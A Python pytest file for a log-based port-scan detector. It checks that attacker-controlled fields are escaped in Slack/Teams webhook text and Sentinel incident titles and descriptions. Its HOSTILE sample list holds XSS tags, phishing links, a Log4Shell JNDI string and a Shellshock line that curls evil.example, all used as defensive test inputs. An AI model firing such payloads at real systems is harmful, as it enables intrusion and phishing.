"""Presentation belongs to the rule: the RuleLogic hooks, what findings carry and keep in state, the sinks
that never name a rule's columns, and the escaping of values an attacker controls in every human-facing
message (webhook text for Slack and Teams, the Sentinel incident description, title and comment)."""

from __future__ import annotations

import dataclasses
import json
import re
from collections.abc import Iterable, Mapping
from datetime import timedelta
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from detector.evaluate import evaluate
from detector.logic import RuleLogic
from detector.models import Finding, Row, Window
from detector.sinks.presentation import chat_text, markdown_text, visible
from detector.sinks.sentinel import (
    TITLE_LIMIT,
    evidence_query,
    incident_description,
    incident_title,
    new_incident,
    update_comment,
)
from detector.sinks.webhook import finding_payload, finding_text, run_payload
from detector.w3ciislog import COLUMN_TYPES as W3CIISLOG_TYPES
from tests.helpers import DAY, ROOT
from tests.sink_support import findings, the_rule

# What scanners and attackers really put in user agents, user names and query strings.
HOSTILE = (
    "<!channel> urgent: <https://evil.example/login|sign in to keep your account>",
    "<!here|here> <!everyone> <@U024BE7LH> <#C024BE7LR>",
    "[sign in](https://evil.example/login) ![x](https://evil.example/pixel.png)",
    "<script>alert(document.domain)</script><img src=x onerror=alert(1)>",
    '<a href="https://evil.example">Microsoft Support</a> &lt;already&gt; &amp;',
    "`code` ```fence``` ~~~kql *bold* _it_ ~strike~ | a | b |",
    "line1\nline2\r\n# Heading\n- item\n> quote",
    "nul\x00byte\x07bell\x1b[31mred\x7f\u2028sep",
    "\u202e9.311.0.302 \u2066admin\u2069 \u200fx\u061c next\x85line \x9b31m",  # bidi controls reorder text; C1
    "${jndi:ldap://evil.example/a}",
    "() { :; }; /bin/bash -c 'curl https://evil.example'",
    "x" * 100_000,
    "\\[escaped?\\](https://evil.example)",
)
ENTITY = re.compile(r"&(amp|lt|gt);")
# The query's own `<` and `>=` are followed by a space, which no HTML parser takes for a tag.
MARKUP_IN_QUERY = re.compile(r"<[^ =]|>[^ =]|&|`")


class _MinimalLogic(RuleLogic):
    """A rule that writes none of the presentation hooks: the defaults must serve."""

    rule_id = "00000000-0000-0000-0000-000000000001"
    columns = ("TimeGenerated", "cIP")
    required_columns = columns
    output_columns = ("TimeGenerated", "cIP", "Hits")
    time_bin = timedelta(hours=1)

    @classmethod
    def from_parameters(cls, parameters: Mapping[str, Any]) -> _MinimalLogic:
        return cls()

    def evaluate(self, rows: Iterable[Row], window: Window) -> list[dict[str, Any]]:
        return []

    def group_key(self, result: Mapping[str, Any]) -> tuple[Any, ...]:
        return (result["TimeGenerated"], result["cIP"])


# ---------------------------------------------------------------------------------------------------
# The interface


def test_defaults_serve_a_rule_that_writes_no_hooks() -> None:
    logic = _MinimalLogic()
    result = {"TimeGenerated": DAY.start, "cIP": "192.0.2.1", "Hits": 3}
    assert logic.title(result) == "2026-11-26T00:00:00Z, 192.0.2.1"
    assert logic.summary(result) == logic.title(result)
    assert logic.evidence(result) == (("TimeGenerated", "TimeGenerated"), ("cIP", "cIP"), ("Hits", "Hits"))


def test_the_port_rule_titles_summarises_and_names_its_evidence() -> None:
    finding = next(f for f in findings() if f.columns["cIP"] == "203.0.113.80")
    c = finding.columns
    assert finding.title == f"203.0.113.80 on {c['Computer']} (30 ports)"
    assert finding.summary == (
        f"Client IP 203.0.113.80 reached 30 distinct ports on server {c['Computer']} ({c['sIP']}) "
        f"in {c['ConnectionsCount']} connections."
    )
    assert finding.evidence[:2] == (("Ports", "set_sPort"), ("User agents", "set_csUserAgent"))
    assert {column for _, column in finding.evidence} <= set(c)


def test_state_keeps_the_presentation_and_old_state_still_loads() -> None:
    finding = findings()[0]
    again = Finding.from_state(json.loads(json.dumps(finding.to_state())))
    assert again == finding
    old = finding.to_state()
    for key in ("title", "summary", "evidence"):
        old.pop(key)
    loaded = Finding.from_state(old)
    assert (loaded.title, loaded.summary, loaded.evidence) == ("", "", ())
    # Sinks fall back to the rule name and every column for such a finding.
    assert incident_title(loaded) == loaded.rule_name
    assert "set\\_sPort (" in incident_description(loaded)  # labels are escaped like values
    assert loaded.rule_name in finding_text(loaded)


def test_sinks_never_name_a_rules_columns() -> None:
    # W3CIISLog's own columns (cIP, sIP...) are the table's, which the evidence query may name; the columns
    # a rule computes (portCount, set_sPort, IPCustomEntity...) are the rule's.
    rule_columns = set(the_rule().logic.output_columns) - set(W3CIISLOG_TYPES)
    for name in ("sentinel.py", "webhook.py", "ingestion.py", "presentation.py"):
        source = (ROOT / "detector" / "sinks" / name).read_text(encoding="utf-8")
        named = sorted(c for c in rule_columns if re.search(rf"\b{re.escape(c)}\b", source))
        assert not named, f"detector/sinks/{name} names the port rule's columns {named}"


def _doc_block(marker: str) -> str:
    text = (ROOT / "docs" / "sinks.md").read_text(encoding="utf-8").split(f"<!-- {marker} -->", 2)[1].strip()
    return text.split("\n", 1)[1].rsplit("```", 1)[0].rstrip("\n")


def test_docs_examples_are_what_the_sinks_write() -> None:
    finding = findings()[2]
    assert _doc_block("example-description") == incident_description(finding)
    payload = finding_payload(finding)
    payload.pop("finding")
    assert json.loads(_doc_block("example-webhook")) == payload
    assert _doc_block("example-run-text") == run_payload(findings())["text"]


# ---------------------------------------------------------------------------------------------------
# Values an attacker controls


def hostile_findings() -> list[Finding]:
    """Scans whose every attacker-chosen field is hostile, through the real engine, plus the same finding
    with a hostile title and summary (a rule whose title names a user name or a URL)."""
    start = DAY.start + timedelta(hours=2)
    rows: list[Row] = []
    for port in range(30):
        value = HOSTILE[port % len(HOSTILE)]
        rows.append(
            {
                "TimeGenerated": start + timedelta(seconds=port),
                "cIP": "198.51.100.7",
                "Computer": "web<01>&`.contoso.com",
                "sIP": "10.0.0.4",
                "sPort": 20000 + port,
                "csMethod": value[:40],
                "csUriQuery": value,
                "csUserName": value,
                "sSiteName": "Default Web Site",
                "csUserAgent": value,
                "scStatus": "401",
                "scSubStatus": "1",
                "scWin32Status": "5",
            }
        )
    (finding,) = evaluate(the_rule(), rows, DAY)
    return [finding, *(dataclasses.replace(finding, title=h, summary=h) for h in HOSTILE)]


def assert_inert(text: str, where: str, code_block: bool = False) -> None:
    """No markup from a value survives: no raw < or >, every & an entity, no unescaped link brackets,
    no control character but our own line breaks."""
    body, query = text, ""
    if code_block:
        head, rest = text.split("~~~kql\n", 1)
        query, tail = rest.split("\n~~~\n", 1) if "\n~~~\n" in rest else (rest, "")
        body = head + tail
        assert not MARKUP_IN_QUERY.search(query), f"{where}: markup in the evidence query"
    assert "<" not in body and ">" not in body, f"{where}: a raw < or >"
    assert "&" not in ENTITY.sub("", body), f"{where}: an & that is not an entity"
    assert not re.search(r"(?<!\\)[\[\]`]", body), f"{where}: an unescaped [, ] or backtick"
    assert not re.search(r"[\x00-\x09\x0b-\x1f\x7f-\x9f\u2028\u2029]", text), f"{where}: a control character"
    assert not re.search("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]", text), f"{where}: a bidi control"
    for forbidden in ("<!channel>", "<!here", "<https://", "<script", "<img", "<a href"):
        assert forbidden not in text, f"{where}: {forbidden}"
    assert not re.search(r"(?<!\\)\]\(", body), f"{where}: a markdown link"


def test_webhook_text_is_inert_for_slack_and_teams() -> None:
    found = hostile_findings()
    for finding in found:
        text = finding_text(finding)
        assert_inert(text, "per-finding text")
        assert len(text.split("\n")) <= 7  # a value never adds a line
        assert len(text) < 5_000
        assert "&lt;!channel&gt;" in text or finding.title != HOSTILE[0]
    text = run_payload(found)["text"]
    assert_inert(text, "per-run text")
    assert len(text.split("\n")) == 1 + len(found)


def test_webhook_structured_fields_keep_values_verbatim() -> None:
    (finding, *_) = hostile_findings()
    payload = finding_payload(finding)
    assert payload["finding"] == finding.to_json()
    assert "<!channel> urgent: <https://evil.example/login|sign in to keep your account>" in payload["finding"]["set_csUserAgent"]


def test_incident_description_title_and_comment_are_inert() -> None:
    for finding in hostile_findings():
        description = incident_description(finding)
        assert_inert(description, "incident description", code_block=True)
        assert len(description) <= 5000
        title = incident_title(finding)
        assert len(title) <= TITLE_LIMIT
        assert "\n" not in title and "\x00" not in title
        assert new_incident(finding)["properties"]["title"] == title
        _, message = update_comment(finding, {"description": description})
        assert_inert(message, "incident comment")


def test_evidence_query_with_markup_in_a_value_still_selects_the_same_value() -> None:
    (finding, *_) = hostile_findings()
    query = evidence_query(finding)
    assert not MARKUP_IN_QUERY.search(query)
    (points,) = re.findall(r"Computer == unicode_codepoints_to_string\(dynamic\(\[([0-9, ]+)\]\)\)", query)
    assert "".join(chr(int(p)) for p in points.split(",")) == finding.columns["Computer"]
    assert 'cIP == "198.51.100.7"' in query  # plain values stay readable


@pytest.mark.parametrize("odd", ["\u202e", "\u2066", "\u200f", "\u061c", "\u2028", "\x85", "\x9b"])
def test_evidence_query_with_a_bidi_or_c1_control_in_a_key_reads_as_it_runs(odd: str) -> None:
    """A client IP that would display reversed (U+202E then "9.311.0.302" reads 203.0.113.9) is written as its
    code points in the query, so the description's code block shows what the query matches."""
    (finding, *_) = hostile_findings()
    hostile = f"{odd}9.311.0.302"
    query = evidence_query(dataclasses.replace(finding, columns={**finding.columns, "cIP": hostile}))
    assert odd not in query
    (points,) = re.findall(r"cIP == unicode_codepoints_to_string\(dynamic\(\[([0-9, ]+)\]\)\)", query)
    assert "".join(chr(int(p)) for p in points.split(",")) == hostile
    assert visible(hostile) == ("\\" + f"u{ord(odd):04x}" if odd not in "\u2028\x85\x9b" else "\ufffd") + "9.311.0.302"


@pytest.mark.parametrize("escape", [chat_text, markdown_text])
def test_escaping_is_reversible_for_what_a_reader_sees(escape: Any) -> None:
    """Unescaping the entities and backslashes gives back the visible value: nothing is lost but controls."""
    for value in HOSTILE:
        shown = escape(value)
        plain = re.sub(r"\\(.)", r"\1", shown)
        plain = plain.replace("&lt;", "<").replace("&gt;", ">").replace("&amp;", "&")
        assert plain == visible(value)


@settings(max_examples=300, deadline=None)
@given(st.text(alphabet=st.characters(codec="utf-8", exclude_categories=["Cs"]), max_size=400))
def test_any_text_renders_inert(value: str) -> None:
    assert_inert(chat_text(value), "chat_text")
    assert_inert(markdown_text(value), "markdown_text")
    assert len(visible(value)) <= 200


def test_lone_surrogates_do_not_break_a_json_body() -> None:
    shown = chat_text("abc\udcff")
    shown.encode("utf-8")  # a JSON body is UTF-8: a lone surrogate would raise here
    assert shown.startswith("abc")
